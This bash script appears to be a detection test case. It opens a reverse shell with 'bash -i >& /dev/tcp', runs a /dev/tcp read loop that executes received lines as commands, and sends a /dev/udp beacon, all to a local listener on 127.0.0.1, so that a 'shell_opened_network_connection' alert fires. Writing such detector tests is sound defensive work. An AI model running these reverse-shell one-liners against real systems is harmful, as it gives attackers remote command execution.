#!/bin/bash
# desc: shells that open the connection themselves: bash -i >& /dev/tcp, an exec'd /dev/tcp descriptor read in a loop, a /dev/udp beacon
# mitre: T1059.004, T1071
# expect: shell_opened_network_connection
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

port=$(free_port)
printf 'id\nexit\n' | timeout 10 nc -lN 127.0.0.1 "$port" >/dev/null &
wait_listen 127.0.0.1 "$port"
timeout 10 bash -c "bash --norc -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null || true
wait

port=$(free_port)
printf 'id\n' | timeout 10 nc -lN 127.0.0.1 "$port" >/dev/null &
wait_listen 127.0.0.1 "$port"
timeout 10 bash -c "exec 5<>/dev/tcp/127.0.0.1/$port; while read -r line <&5; do \$line >&5 2>&5; done" || true
wait

# UDP needs no listener: the datagram goes out either way.
bash -c "echo beacon > /dev/udp/127.0.0.1/$(free_port)" || true
